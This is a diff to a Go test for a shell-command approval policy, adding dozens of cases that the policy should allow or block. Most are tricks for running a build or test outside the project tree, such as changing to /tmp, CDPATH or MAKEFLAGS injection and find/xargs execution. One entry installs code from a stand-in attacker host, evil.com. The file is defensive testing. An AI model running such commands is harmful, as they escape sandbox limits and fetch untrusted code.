@@ -35,10 +35,22 @@ func TestBuildRunsTheTree(t *testing.T) {
 		"tox -x a.b=c": false, "tox -e py312": true, "mypy --python-executable ./x .": false, "mypy src": true, "ctest -S x": false, "ctest --output-on-failure": true, "meson devenv sh": false, "meson test --wrap ./x": false, "meson test -C build": true,
 		"dotnet build -p:PreBuildEvent=id": false, "dotnet build /p:PreBuildEvent=id": false, "dotnet test --no-build": true, "cmake -S . -B build": true, "cmake -S . -B build -DCMAKE_C_COMPILER=./x": false, "cmake --build build -- SHELL=x": false,
 		"cmake --build build -j 4": true, "ninja -t x": false, "go test ./... -run TestA -count=1": true, "go test -exec ./x ./...": false, "cargo test": true, "cargo test --config x": false, "flake8 --append-config x": false, "black --config x .": false,
+		"make -C /tmp": false, "make -C/tmp": false, "make --directory=/tmp": false, "make --directory /tmp": false, "make -C ../x": false, "make -C a/../../x": false, "make -C ~/x": false, "make -C /work/src": true, "make -C /workx": false,
+		"cd /tmp && make": false, "cd /tmp; cd x; make": false, "cd && make": false, "cd - && make": false, "cd ~ && make": false, "cd .. && make": false, "cd $X && make": false, "(cd /tmp; make)": false,
+		"sh -c 'cd /tmp; make'": false, "for i in 1 2; do make; cd /tmp; done": false, "cd missing/x; make -C ../../tmp": false, "env -C /tmp make": false, "env --chdir=/tmp make": false,
+		"CDPATH=/tmp cd x && make": false, "CDPATH=/tmp; cd x && make": false, "export CDPATH=/tmp; cd x; make": false, "export MAKEFLAGS=--eval=x; make": false, "f() { make; }; cd /tmp; f": false,
+		"pytest /tmp/t.py": false, "pytest src:/tmp": false, "python3 -m unittest /tmp/evil.py": false, "python3 -m unittest -s/tmp": false, "python3 -m unittest -s /tmp": false, "pytest tests/*.py": true, "pytest tests/$X": false,
+		"go test -C /tmp": false, "go test -C=/tmp ./...": false, "go install evil.com/x@latest": false, "go install ./cmd/x": true, "go test ../...": false, "go build -o /tmp/x ./cmd/x": true, "go test -coverprofile=/tmp/c ./...": true,
+		"go build -o -C /tmp": false, "go test $(go list ./...)": false, "cargo build --manifest-path /tmp/Cargo.toml": false, "cargo doc --open": false, "cargo fmt -- --config-path /tmp": false, "cargo test --manifest-path=sub/Cargo.toml": true,
+		"cmake -S /tmp -B b": false, "cmake --build /tmp/b": false, "ninja -C /tmp": false, "ninja -C build": true, "ctest --test-dir /tmp": false, "tsc -p /tmp": false, "rspec /tmp/x": false, "dotnet build /tmp/x.csproj": false,
+		"jest -o /tmp/x.test.js": false, "eslint /tmp/x": false, "npm test -w ../x": false, "make >/dev/null 2>&1": true, "go build -o /dev/null ./...": true, "cd /work/src && make": true, "timeout 60 make": true, "nice -n 5 make test": true,
+		"find /tmp -execdir make \\;": false, "find /tmp -exec pytest {} +": false, "find /tmp -exec make -C {} \\;": false, "fd . /tmp -x pytest": false, "xargs make < /tmp/x": false, "ls /tmp | xargs pytest": false,
+		"time make": true, "make && cat /tmp/x": true, "ls /etc; make": true, "cat ../x; make": true,
 		"ruff check --config x": false, "ruff check .": true, "tsc -p tsconfig.json --noEmit": true, "make $X": false,
 	} {
-		if got, _ := command.Matches(rule, line); got != want {
-			t.Errorf("%q: got %v, want %v", line, got, want)
+		j := command.NewRules(policy.Shell{}.With(policy.ShellLayer{NoDefault: true, Rules: []policy.ShellRule{{Use: "read_only", Approval: policy.PreApproved}, rule}})).Judge(line)
+		if got := j.Verdicts[j.Decides()].Said; got != want {
+			t.Errorf("%q: got %v, want %v: %+v", line, got, want, j.Verdicts)
 		}
 	}
 }
